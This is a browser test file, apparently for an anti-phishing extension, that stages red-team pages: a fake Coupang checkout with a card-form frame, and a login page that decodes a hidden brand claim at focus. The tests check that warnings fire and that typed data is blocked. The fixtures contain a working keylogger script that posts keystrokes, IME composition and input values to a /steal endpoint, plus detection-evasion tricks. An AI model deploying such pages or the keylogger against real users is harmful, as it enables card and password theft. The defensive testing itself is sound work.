import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, type Session } from '../harness';
import { poll } from '../harness/poll';
import { expectNoWarningFor, notWarned, startReady } from '../page-helpers';
import { expectPageWarning, js, stolen } from './kit';

/**
 * Red team 35, classes B and C. The page's own script does the attack each time, next to an honest twin.
 *
 *  - B: a Coupang checkout on an unknown host, the card form in a cross-origin "payment gateway" frame whose own
 *    script writes one footer line naming another company. The frame's identity turned negative and the whole
 *    frame — its card ask with it — was left out of the tab's pool: no warning, the card number reached the kit.
 *    Twin: a florist's checkout with the very same frame.
 *  - C (Chromium: the input method driven through the devtools protocol): the claim goes up just after the box
 *    takes focus, and the text comes by IME composition with no key before it. The page's compositionupdate
 *    listener had the first jamo before the second chance held at the beforeinput after it.
 *    Twin: a forum that talks about Coupang, Korean composed into its comment box.
 */
const doc = (title: string, body: string, head = '') =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title>${head}</head><body>${body}</body></html>`;

/** What the page's listeners get, posted to /steal on its own host (as a keylogger would) */
const LOGGER = `<script>
window.steal = function (kind, data) {
  try { fetch('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300)), { method: 'POST', keepalive: true }); } catch (e) {}
};
['keydown', 'compositionstart', 'compositionupdate', 'compositionend', 'beforeinput', 'input'].forEach(function (t) {
  window.addEventListener(t, function (e) {
    if (e.isTrusted) steal(t, t === 'input' ? e.target && e.target.value : e.data || e.key || '');
  }, true);
});
</script>`;

// ---- class B ----
const PG = 'pay-window-rt35.example.test';
/** The gateway frame: a card form; its script names the frame as another company's at load */
const GATEWAY = doc(
  '카드 결제',
  `<form action="/auth" method="post" style="margin:0"><input id="card" name="cardNo" autocomplete="cc-number" inputmode="numeric"
 placeholder="카드번호" style="position:absolute;left:8px;top:8px;width:300px;height:40px">
<label for="exp" style="position:absolute;top:70px">유효기간</label><input id="exp" name="exp" autocomplete="cc-exp" style="position:absolute;left:80px;top:64px">
<button style="position:absolute;top:110px">결제하기</button></form>
<footer id="f" style="position:absolute;top:160px"></footer>
<script>document.getElementById('f').textContent = '\\u00a9 Hanbit Payments Co., Ltd. All rights reserved.';</script>`,
  LOGGER,
);
const FRAME_STYLE = 'position:absolute;left:20px;top:240px;width:520px;height:220px;border:0';
const checkout = (frame: string) =>
  doc(
    '쿠팡! 주문/결제',
    `<header><img src="https://image7.coupangcdn.com/image/coupang/common/logo_coupang_w350.png" alt="쿠팡" width="174"></header>
<h1>주문/결제</h1><p>받는 사람 김하늘 · 로켓배송 내일(화) 도착 보장</p><p>결제 금액 39,800원</p>
<iframe src="${frame}" title="결제" style="${FRAME_STYLE}"></iframe>
<footer style="position:absolute;top:480px">©Coupang Corp. All rights reserved.</footer>`,
  );
const florist = (frame: string) =>
  doc(
    '꽃담 플라워 - 주문하기',
    `<header><strong>꽃담 플라워</strong></header><h1>주문하기</h1><p>장미 꽃다발 1개 · 내일 오전 도착</p><p>결제 금액 45,000원</p>
<iframe src="${frame}" title="결제" style="${FRAME_STYLE}"></iframe>
<footer style="position:absolute;top:480px">© 꽃담 플라워 · 사업자등록번호 123-45-67890</footer>`,
  );

// ---- class C ----
// one sentence in the brand's voice (below the page warning's bar), kept out of the script's words: shifted by one
const CLAIM = '<p>쿠팡 회원정보 유출 확인 전담 창구입니다. 본인 확인을 위해 비밀번호를 입력해 주세요.</p>';
const shifted = (t: string) => Array.from(t, (c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('');
const LATE_CLAIM = doc(
  '회원 로그인',
  `<h1>회원 로그인</h1><form><input id="pw" type="password" name="pw" style="width:320px;height:44px"></form><div id="later"></div>
<script>
var pw = document.getElementById('pw'), up = false;
pw.addEventListener('focus', function () {
  if (up) return; up = true;
  setTimeout(function () {
    var t = ${js(shifted(CLAIM))}, u = '';
    for (var i = 0; i < t.length; i++) u += String.fromCharCode(t.charCodeAt(i) - 1);
    document.getElementById('later').innerHTML = u;
  }, 600);
});
</script>`,
  LOGGER,
);
const FORUM = doc(
  '자유게시판 - 동네 이야기',
  `<h1>자유게시판</h1><article><h2>쿠팡 로켓배송 이번 주에 늦었나요?</h2><p>주말에 쿠팡에서 시킨 게 아직 안 왔네요. 다들 어떠세요?</p></article>
<form><textarea id="c" name="comment" placeholder="댓글을 입력하세요" style="width:400px;height:80px"></textarea><button>등록</button></form>`,
  LOGGER,
);

forEachBrowser('hostile page: red team 35 — a frame naming itself, a composition before the check', (ctx) => {
  let s: Session;
  beforeAll(async () => {
    s = await startReady(ctx);
  });

  /** clicks at the middle of `selector` (in the top page) and waits a moment */
  const clickOn = async (tab: Awaited<ReturnType<Session['newTab']>>, selector: string) => {
    const box = await tab.evaluate((sel: string) => {
      const r = document.querySelector(sel)!.getBoundingClientRect();
      return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
    }, selector);
    await tab.mouseClick(box.x, box.y);
  };

  test('B: a Coupang checkout whose card frame names its gateway is warned; the card number never reaches it', async () => {
    const top = 'order-pay-rt35.example.test';
    ctx.server.page(PG, '/card', GATEWAY);
    ctx.server.page(top, '/checkout', checkout(ctx.server.url(PG, '/card')));
    const tab = await s.newTab(ctx.server.url(top, '/checkout'));
    await tab.bringToFront();
    const w = await expectPageWarning(s, tab, 20_000);
    expect(w.state?.page?.reasons.map((r) => r.code)).toEqual(
      expect.arrayContaining(['asks-card', 'brand-title']),
    );
    expect(stolen(ctx.server, PG, 'input')).toHaveLength(0);
    await tab.close();
  });

  test("B twin: a florist's checkout with the very same gateway frame stays clean, and the card is typed", async () => {
    const top = 'kkotdam-rt35.example.test';
    ctx.server.page(PG, '/card', GATEWAY);
    ctx.server.page(top, '/order', florist(ctx.server.url(PG, '/card')));
    const tab = await s.newTab(ctx.server.url(top, '/order'));
    await tab.bringToFront();
    await expectNoWarningFor(tab, 4_000);
    // the card box is the frame's first field, 8px in: click it through the top page's coordinates
    const frame = await tab.evaluate(() => {
      const r = document.querySelector('iframe')!.getBoundingClientRect();
      return { x: r.left, y: r.top };
    });
    await tab.mouseClick(frame.x + 150, frame.y + 28);
    await tab.keyboard('4111111111111111');
    await poll(
      async () => stolen(ctx.server, PG, 'input').some((r) => r.path.includes('4111111111111111')),
      (ok) => ok,
      8_000,
      'the card number to reach the honest gateway',
    );
    await expectNoWarningFor(tab, 2_000);
    await tab.close();
  });

  test('C control: the claim put up at focus, typed on the keyboard: warned, no key reaches the page', async () => {
    const host = 'member-kbd-rt35.example.test';
    ctx.server.page(host, '/login', LATE_CLAIM);
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await tab.waitFor(() => document.readyState === 'complete', undefined, 10_000);
    await new Promise((r) => setTimeout(r, 1_500));
    await clickOn(tab, '#pw');
    await new Promise((r) => setTimeout(r, 1_200));
    await tab.keyboard('hunter2').catch(() => undefined);
    await expectPageWarning(s, tab, 15_000);
    expect(stolen(ctx.server, host, 'keydown')).toHaveLength(0);
    expect(stolen(ctx.server, host, 'input')).toHaveLength(0);
    await tab.close();
  });

  test.skipIf(ctx.name !== 'chromium')(
    'C: the claim put up at focus, the text composed with no key: the first jamo never reaches the page',
    async () => {
      const host = 'member-ime-rt35.example.test';
      ctx.server.page(host, '/login', LATE_CLAIM);
      const tab = await s.newTab(ctx.server.url(host, '/login'));
      await tab.bringToFront();
      await tab.waitFor(() => document.readyState === 'complete', undefined, 10_000);
      await new Promise((r) => setTimeout(r, 1_500));
      await clickOn(tab, '#pw');
      // the claim is up (600 ms after the focus)
      await new Promise((r) => setTimeout(r, 1_200));
      await tab.compose!(['ㅎ', '하', '한'], '한').catch(() => undefined);
      await expectPageWarning(s, tab, 15_000);
      const reached = ctx.server
        .requestsFor(host)
        .filter((r) => /^\/steal\?(composition|beforeinput|input|keydown)/.test(r.path));
      expect(reached.map((r) => r.path)).toEqual([]);
      await tab.close();
    },
  );

  test.skipIf(ctx.name !== 'chromium')(
    'C twin: Korean composed into a forum comment box that talks about Coupang reaches the page, no warning',
    async () => {
      const host = 'dongne-forum-rt35.example.test';
      ctx.server.page(host, '/t/1', FORUM);
      const tab = await s.newTab(ctx.server.url(host, '/t/1'));
      await tab.bringToFront();
      await tab.waitFor(() => document.readyState === 'complete', undefined, 10_000);
      await new Promise((r) => setTimeout(r, 1_500));
      await clickOn(tab, '#c');
      await tab.compose!(['ㅇ', '아', '안'], '안');
      await tab.compose!(['ㄴ', '녀', '녕'], '녕');
      await tab.waitFor(() => (document.querySelector('textarea')?.value ?? '') === '안녕', undefined, 5_000);
      await expectNoWarningFor(tab, 3_000);
      expect(await notWarned(s, tab)).toBe(true);
      expect(stolen(ctx.server, host, 'compositionupdate').length).toBeGreaterThan(0);
      await tab.close();
    },
  );
});
